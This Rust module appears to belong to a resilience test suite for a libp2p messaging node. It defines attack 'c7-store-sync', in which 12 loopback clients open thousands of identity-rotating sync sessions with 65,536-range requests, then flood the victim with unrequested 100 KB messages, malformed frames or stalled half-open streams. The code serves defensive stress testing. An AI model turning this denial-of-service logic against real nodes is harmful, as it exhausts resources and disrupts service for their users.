//! Attack c7: sessions of store synchronisation that are expensive and achieve nothing.

use std::net::Ipv4Addr;
use std::time::Duration;

use futures::{AsyncWriteExt as _, FutureExt as _};
use libp2p::swarm::Stream;
use tokio::time::{sleep, timeout};

use super::{Attack, Price, c2_malformed, nothing, with_services};
use crate::node::Target;
use crate::service_client::ServiceClient;
use crate::test_network::{prefix, pubsub_topic};
use crate::{HostileError, Tasks, TestNetwork, asks, rpc};

/// Number of clients, each with its own address.
const ATTACKERS: u8 = 12;
/// Sessions of each client, each under a new identity; enough for ten minutes.
const SESSIONS_MAX: usize = 3_000;
/// Time for which a client keeps a session.
const HELD: Duration = Duration::from_secs(5);
/// Pause between two sessions of a client.
const PAUSE: Duration = Duration::from_millis(200);
/// Payload of an unrequested message, bytes.
const UNASKED_BYTES: usize = 100_000;
/// Number of unrequested messages in a session, more than it takes to end the session.
const UNASKED: usize = 100;
/// Duration of the attack before messages are counted.
const RISING: Duration = Duration::from_secs(3);

/// Attack c7: sessions with payloads of 65,536 ranges, followed by unrequested messages or malformed frames.
pub const ATTACK: Attack = Attack {
    name: "c7-store-sync",
    about: "12 stores begin sessions with 65,536 ranges to compare, and transfer what nobody asked for, malformed \
            frames, or nothing; a new identity for each session",
    price: Price::Addresses(ATTACKERS as u32),
    options: with_services,
    start: |stage| start(stage).boxed(),
    then: nothing,
};

async fn start(stage: &mut TestNetwork) -> Result<Tasks, HostileError> {
    let mut tasks = Tasks::default();
    for n in 0..ATTACKERS {
        let from = Ipv4Addr::new(127, 0, 28, n + 1);
        tasks.spawn(sessions(from, stage.victim.target(), usize::from(n)));
    }
    sleep(RISING).await;
    Ok(tasks)
}

async fn sessions(from: Ipv4Addr, target: Target, first: usize) {
    let malformed = c2_malformed::malformed();
    for n in first..first + SESSIONS_MAX {
        if let Ok(client) = ServiceClient::connect(from, target, None).await {
            let opening = rpc::framed(&asks::most_ranges());
            let begun = timeout(HELD, client.raw.send(asks::RECONCILIATION, &opening));
            if let Ok(Ok(session)) = begun.await {
                let transferring = async {
                    match n % 3 {
                        0 => transfer_unasked(&client).await,
                        1 => transfer_malformed(&client, &malformed).await,
                        _ => std::future::pending().await,
                    }
                };
                let _ = timeout(HELD, transferring).await;
                drop(session);
            }
        }
        sleep(PAUSE).await;
    }
}

/// Sends messages until the victim ends the stream or all are sent.
async fn transfer_unasked(client: &ServiceClient) {
    let (topic, content_topic) = (pubsub_topic(0), format!("{}/unasked/proto", prefix(0)));
    let Ok(mut stream) = client.raw.open(asks::TRANSFER).await else {
        return;
    };
    for n in 0..UNASKED {
        let mut payload = vec![0; UNASKED_BYTES];
        payload[..8].copy_from_slice(&(n as u64).to_be_bytes());
        let message = asks::unasked(&topic, &content_topic, payload);
        if stream.write_all(&rpc::framed(&message)).await.is_err() {
            return;
        }
    }
}

/// Sends one malformed frame on each stream. The last stream stays open with half a message.
async fn transfer_malformed(client: &ServiceClient, malformed: &[Vec<u8>]) {
    let mut half = rpc::varint(UNASKED_BYTES as u64);
    half.resize(UNASKED_BYTES, 0x0a);
    let mut streams: Vec<Stream> = Vec::new();
    for frame in std::iter::once(&half).chain(malformed) {
        streams.extend(client.raw.send(asks::TRANSFER, frame).await.ok());
    }
    std::future::pending::<()>().await;
}
